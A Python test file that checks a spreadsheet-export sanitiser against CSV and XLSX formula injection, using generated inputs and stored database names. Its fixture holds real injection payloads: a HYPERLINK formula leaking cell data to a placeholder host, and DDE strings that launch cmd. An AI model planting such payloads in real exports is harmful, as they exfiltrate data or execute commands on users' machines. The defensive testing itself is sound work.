"""Formula injection: `neutralise` over many generated strings (hypothesis), and names
stored in the database coming out inert in the data packs, XLSX and CSV alike.

A spreadsheet program reads a cell as a formula when its text starts with =, +, -, @,
a tab or a carriage return, and LibreOffice's CSV import can first trim leading spaces:
so no neutralised text may start with one of them, before or after its leading
whitespace. Anything else is left exactly as it was, and a dangerous value keeps its
content behind the one apostrophe that makes it text.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from reporting import datapacks, services
from reporting.models import Rollup
from reporting.spreadsheets import neutralise
from tests import builders

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Whitespace a value may start with: ASCII and Unicode (no-break, em and ideographic
# spaces, line and paragraph separators), as str.isspace sees it.
WHITESPACE = st.text(
    alphabet=st.sampled_from(" \t\r\n\x0b\x0c\x1c\x85\xa0\u2003\u2028\u2029\u3000"),
    max_size=4,
)
# A trigger first, or =, +, - or @ after leading whitespace (a tab or carriage return
# after whitespace is whitespace too: what follows it decides).
DANGEROUS = st.one_of(
    st.builds(lambda trigger, rest: trigger + rest, st.sampled_from(TRIGGERS), st.text()),
    st.builds(
        lambda space, trigger, rest: space + trigger + rest,
        WHITESPACE,
        st.sampled_from("=+-@"),
        st.text(),
    ),
)
ANY_TEXT = st.one_of(st.text(), DANGEROUS, st.text(alphabet=st.characters(), min_size=1))


def is_read_as_formula(text: str) -> bool:
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


@given(ANY_TEXT)
@example("=1+1")
@example(" =1+1")
@example("\u00a0@SUM(A1)")
@example("\n-2+3")
@example("'=already quoted")
@example("")
def test_nothing_neutralised_is_read_as_a_formula_and_the_content_is_kept(value):
    safe = neutralise(value)
    assert not is_read_as_formula(safe)
    if is_read_as_formula(value):
        assert safe == "'" + value
    else:
        assert safe == value
    assert neutralise(safe) == safe


@given(DANGEROUS)
def test_every_dangerous_start_is_caught(value):
    assert neutralise(value) == "'" + value


@given(st.lists(ANY_TEXT, min_size=1, max_size=6))
def test_neutralised_cells_come_back_from_a_csv_unchanged_and_inert(values):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([neutralise(v) for v in values])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert row == [neutralise(v) for v in values]
    assert not [cell for cell in row if is_read_as_formula(cell)]


# XML 1.0 cannot hold most control characters; xlsxwriter writes them escaped, and a
# lone surrogate cannot be encoded at all, so the workbook round trip draws from text
# without them (tab and carriage return included through DANGEROUS's triggers).
XML_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")))


@settings(max_examples=60, deadline=None)
@example(["\t=1+1", "\r=1+1", " =1+1", "\u3000@x", "-5", "plain"])
@given(st.lists(st.one_of(XML_TEXT, DANGEROUS.filter(lambda v: "\r" not in v[1:])), min_size=1))
def test_neutralised_cells_of_a_workbook_are_text_never_formulas(values):
    output = io.BytesIO()
    workbook = xlsxwriter.Workbook(output, {"in_memory": True, "strings_to_formulas": False})
    sheet = workbook.add_worksheet()
    for col, value in enumerate(values):
        sheet.write_string(0, col, neutralise(value))
    workbook.close()
    row = next(openpyxl.load_workbook(output).active.iter_rows())
    for cell, value in zip(row, values, strict=False):
        if value == "":
            continue
        assert cell.data_type == "s"
        assert not is_read_as_formula(cell.value)
        if is_read_as_formula(value):
            assert cell.value.startswith("'")


# -- Names stored in the database, through the data packs ----------------------------

HOSTILE = {
    "name": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "lead": "@SUM(1+1)*cmd|' /C calc'!A0",
    "coach": " -2+3+cmd|' /C notepad'!A0",
}


@pytest.fixture
def hostile(cast):
    coalition = cast.coalition_a
    coalition.name = HOSTILE["name"]
    coalition.lead_organization = HOSTILE["lead"]
    coalition.save(update_fields=["name", "lead_organization"])
    cast.coach_a.full_name = HOSTILE["coach"]
    cast.coach_a.save(update_fields=["full_name"])
    period = builders.period_of(coalition, "2025Q3")
    version = builders.submitted_version(period, cast.admin_a, participants=12, seed=9)
    services.rollup_period(period_id=period.pk, program=False)
    services.rollup_program(quarter="2025Q3")
    assert Rollup.objects.filter(coalition=coalition).exists()
    return {
        "generated_at": "2025-11-20T10:30:00-05:00",
        "generated_by": f"{HOSTILE['coach']} <coach@example.org>",
        "export": "0e6c2a1b-5d7f-4f2b-8a55-1f0b6f1d2c3e",
        "submissions": [
            {
                "coalition": HOSTILE["name"],
                "slug": coalition.slug,
                "quarter": "2025Q3",
                "version": version.version,
                "state": version.state,
                "certified_at": None,
                "accepted_at": None,
            }
        ],
    }


def test_stored_names_come_out_of_the_xlsx_pack_as_quoted_text(cast, hostile):
    content = datapacks.data_pack_xlsx(quarter="2025Q3", coalition_id=None, provenance=hostile)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if is_read_as_formula(t)]
    for value in HOSTILE.values():
        assert "'" + value in texts, value
    assert book["Figures"]["A2"].value == "'" + HOSTILE["name"]
    assert book["Figures"]["A2"].data_type == "s"
    board = book["Status board"]
    header = [c.value for c in board[1]]
    row = [c.value for c in board[2]]
    assert row[header.index("Lead organization")] == "'" + HOSTILE["lead"]
    assert row[header.index("Coaches")] == "'" + HOSTILE["coach"]


def test_stored_names_come_out_of_the_csv_pack_quoted(cast, hostile):
    content = datapacks.data_pack_csv(quarter="2025Q3", coalition_id=None, provenance=hostile)
    cells = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            cells += [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    # Numbers are written as numbers: a negative one (days late) is a number, not text.
    texts = [c for c in cells if not _is_number(c)]
    assert not [t for t in texts if is_read_as_formula(t)]
    for value in HOSTILE.values():
        assert "'" + value in cells, value
    assert HOSTILE["name"] not in cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(name=DANGEROUS.filter(lambda v: v.strip() and "\x00" not in v))
def test_any_dangerous_coalition_name_is_neutralised_in_the_csv_figures(cast, hostile, name):
    cast.coalition_a.name = name[:200]
    cast.coalition_a.save(update_fields=["name"])
    content = datapacks.data_pack_csv(
        quarter="2025Q3", coalition_id=cast.coalition_a.pk, provenance=hostile
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read("figures.csv").decode("utf-8-sig")
    first = next(csv.DictReader(io.StringIO(text, newline="")))
    assert first["Coalition"] == "'" + name[:200]
